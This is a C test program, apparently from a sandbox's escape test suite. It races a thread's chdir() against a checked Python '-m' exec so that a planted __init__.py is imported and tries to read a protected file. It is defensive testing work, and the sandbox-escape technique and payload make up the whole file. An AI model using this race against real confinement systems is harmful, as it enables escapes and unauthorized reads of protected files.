/* exec_pycwd_flip.c PYTHON MODULE GRANTED PLANTED WORK: a thread changes the process's
 * working directory between the check of a Python exec into another table and the exec
 * (pycwd37's re-read; notes38's attack on it).
 *
 * Python run with -m MODULE puts its working directory first on sys.path.  An exec into
 * another table of such a Python is refused where a traced program may write its cwd,
 * unless that table grants the directory (environment = ["CWD=..."]); the directory decided
 * on is read again with the tree frozen before the exec runs.  Here the cwd at the check is
 * GRANTED (granted, holding nothing); a thread -- which shares the cwd (CLONE_FS) -- then
 * chdir()s to PLANTED, where MODULE/__init__.py is planted: the exec run after that imports
 * the plant under the entered table.  The thread waits for WORK/flip (the outsider, the
 * test, makes it once the run's log shows the exec decided; an inject rule delays the exec
 * after its decision), then changes directory.
 *
 *   $ESC_OUTSIDER_FIRST (the native control): the exec waits for the thread's chdir.
 *
 * ESCAPED is printed by the planted module when it read $ESC_TARGET; BLOCKED here when the
 * exec failed.
 */
#include "attack.h"
#include <pthread.h>

static const char *planted, *work;
static volatile int flipped;

static void *flip(void *arg) {
    (void)arg;
    char go[4096];
    snprintf(go, sizeof go, "%s/flip", work);
    struct timespec nap = {0, 2 * 1000 * 1000};
    for (int i = 0; i < 5000 && !exists(go); i++)
        nanosleep(&nap, NULL);
    if (chdir(planted) < 0)
        blocked("chdir %s: %s", planted, ename(errno));
    flipped = 1;
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 6)
        usage("exec_pycwd_flip PYTHON MODULE GRANTED PLANTED WORK");
    const char *python = argv[1], *name = argv[2], *granted = argv[3];
    planted = argv[4];
    work = argv[5];
    char path[4096], module[256];
    snprintf(path, sizeof path, "%s/%s", planted, name);
    if (mkdir(path, 0755) < 0 && errno != EEXIST)
        blocked("mkdir %s: %s", path, ename(errno));
    snprintf(path, sizeof path, "%s/%s/__init__.py", planted, name);
    FILE *f = fopen(path, "w");
    if (!f)
        blocked("planting %s: %s", path, ename(errno));
    fprintf(f, "import os\n"
               "try:\n"
               "    got = open(os.environ['ESC_TARGET']).read().strip()\n"
               "    print('ESCAPED: the planted %s read ' + got, flush=True)\n"
               "except OSError as exc:\n"
               "    print('BLOCKED: the planted %s ran, its read refused: ' + str(exc),"
               " flush=True)\n"
               "os._exit(0)\n", name, name);
    fclose(f);
    if (chdir(granted) < 0)
        blocked("chdir %s: %s", granted, ename(errno));
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, NULL) != 0)
        blocked("pthread_create");
    if (getenv("ESC_OUTSIDER_FIRST"))
        pthread_join(thread, NULL);
    snprintf(module, sizeof module, "%s.tool", name);
    execl(python, python, "-m", module, "/dev/null", (char *)NULL);
    blocked("exec %s -m %s (the thread %s): %s", python, module,
            flipped ? "had changed directory" : "had not changed directory yet", ename(errno));
}
